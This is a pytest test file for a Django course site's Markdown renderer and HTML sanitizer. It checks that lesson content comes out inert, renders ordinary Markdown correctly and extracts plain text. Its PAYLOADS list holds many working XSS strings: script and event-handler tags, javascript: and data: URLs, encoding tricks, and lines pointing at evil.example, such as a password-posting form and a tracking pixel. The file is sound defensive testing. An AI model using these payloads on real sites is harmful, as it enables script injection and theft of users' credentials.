"""Markdown of lessons: what may be written, and that nothing an author writes can act in a reader's browser."""

from html.parser import HTMLParser

from django.template import Context, Template

import pytest

from courses.markdown import SCHEMES, TAGS, clean, plain, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=java&#115;cript:alert(1)>x</a>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus="alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](//evil.example/path)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <a onclick=alert(1)>x</a>",
    "**<b onmouseover=alert(1)>x</b>**",
    "a<br onx=alert(1)>b",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<a href='https://ok.example' target=_blank ping=//evil.example>x</a>",
    "<div id=content class=primary>x</div>",
]


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("transform", [render, clean], ids=["markdown", "html"])
def test_a_payload_becomes_inert(payload, transform):
    for tag, attributes in elements(transform(payload)):
        assert tag in TAGS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        if href := attributes.get("href"):
            assert href.partition(":")[0].lower() in SCHEMES


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_is_cleaning_once(payload):
    once = clean(payload)
    assert clean(once) == once
    assert clean(render(payload)) == render(payload)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\n\n**two** *three*", "<p>One</p>\n<p><strong>two</strong> <em>three</em></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("# Top", "<h3>Top</h3>\n"),
        ("### Third", "<h3>Third</h3>\n"),
        ("##### Fifth", "<h4>Fifth</h4>\n"),
        ("[we](https://example.com)", '<p><a href="https://example.com" rel="noopener nofollow">we</a></p>\n'),
        ("[mail](mailto:a@example.com)", '<p><a href="mailto:a@example.com" rel="noopener nofollow">mail</a></p>\n'),
        ("https://example.com", "<p>https://example.com</p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        ("„Zażółć” – gęślą", "<p>„Zażółć” – gęślą</p>\n"),
    ],
)
def test_what_editors_write_comes_out_as_meant(text, html):
    assert render(text) == html


def test_a_table_is_a_table():
    html = render("| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<table>" in html
    assert "<td>2</td>" in html


def test_the_template_filter_gives_html_that_is_not_escaped_again():
    page = Template("{% load content %}{{ text|markdown }}").render(Context({"text": "**a** <i>b</i>"}))
    assert page == "<p><strong>a</strong> &lt;i&gt;b&lt;/i&gt;</p>\n"


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("Hello,\n\nthe **course** is\nwaiting for *you*.", "Hello,\n\nthe course is waiting for you."),
        (
            "Bring:\n\n- a pen\n- [paper](https://a.example/x)\n\nThank you.",
            "Bring:\n\n- a pen\n- paper (https://a.example/x)\n\nThank you.",
        ),
        ("1. one\n2. two\n   - inside", "1. one\n2. two\n  - inside"),
        ("- one\n\n  more of it", "- one\n  more of it"),
        ("<https://a.example/> and [a@b.example](mailto:a@b.example)", "https://a.example/ and a@b.example"),
        ("[x](tel:112) [y](/accounts/logout/)", "x y"),
        ("one  \ntwo `three`", "one\ntwo three"),
        ("### Title\n\n> said\n\n---\n\n```\na\n  b\n```", "Title\n\nsaid\n\n---\n\na\n  b"),
        ("<script>x</script> & \\*stars\\* &copy;", "<script>x</script> & *stars* ©"),
        ("", ""),
    ],
)  # fmt: skip
def test_plain_text_has_the_words_and_no_markup(markdown, words):
    assert plain(markdown) == words
